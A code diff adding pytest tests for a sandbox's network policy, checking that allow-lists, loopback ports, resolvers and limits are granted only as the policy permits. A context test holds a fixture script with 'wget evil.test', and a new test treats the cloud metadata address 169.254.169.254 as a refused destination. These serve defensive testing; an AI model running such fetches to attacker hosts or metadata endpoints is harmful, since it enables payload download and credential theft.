@@ -262,3 +262,50 @@ def test_a_literal_destination_must_be_granted(cmd, allow_net, ok):
 def test_scripts_among_the_files_are_looked_at():
     script = files("/tmp/go.sh", content=b"#!/bin/sh\nwget evil.test\n")
     assert refused(files=script).where == "/tmp/go.sh:2"
+
+
+NETWORK = """
+version: 1
+capabilities:
+  net:
+    allow: ["0.0.0.0/0", "192.168.0.0/16:80", "192.168.7.7", "a.example.com"]
+    unsafe_host_loopback: ["127.0.0.1:8000-8010"]
+    resolvers: ["9.9.9.9", "[2620:fe::fe]:5353"]
+limits: {cpu_ms: 1, memory_mb: 1, wall_sec: 1, pids: 1, output_bytes: 1, tmp_mb: 1, net_names: 5}
+"""
+
+
+def networked(*entries):
+    policy = parse_policy(NETWORK.encode(), policy_id="p", source="p.yml")
+    request = parse_request(json.dumps({"cmd": "true", "allow_net": entries}).encode())
+    return admit(request, policy)
+
+
+def test_a_wide_entry_grants_no_special_range():
+    assert networked("8.8.8.8").net == (NetRule.parse("8.8.8.8"),)
+    assert networked("192.168.1.0/24:80").net == (NetRule.parse("192.168.1.0/24:80"),)
+    for entry in ("10.0.0.0/8", "169.254.169.254:80", "192.168.1.1:81"):
+        with pytest.raises(PolicyViolation) as caught:
+            networked(entry)
+        assert f'- "{entry}"' in caught.value.hint
+
+
+def test_the_executors_loopback_is_granted_by_its_own_key_only():
+    grant = networked("127.0.0.1:8001")
+    assert (grant.net, grant.host_loopback) == ((), (NetRule.parse("127.0.0.1:8001"),))
+    for entry in ("127.0.0.1:80", "127.0.0.2:8001", "[::1]:8001", "localhost:8001"):
+        with pytest.raises(PolicyViolation, match="not granted") as caught:
+            networked(entry)
+        assert "unsafe_host_loopback" in caught.value.hint
+
+
+def test_only_a_single_address_of_the_policy_is_exact():
+    assert networked("192.168.7.7:80").net_exact == (NetRule.parse("192.168.7.7:80"),)
+    assert networked("192.168.7.8:80").net_exact == ()
+    assert networked("a.example.com").net_exact == ()
+
+
+def test_limits_and_resolvers_are_the_policys():
+    grant = networked("8.8.8.8")
+    assert (grant.net_limits.names, grant.net_limits.open_connections) == (5, 256)
+    assert grant.resolvers == ("9.9.9.9", "[2620:fe::fe]:5353")
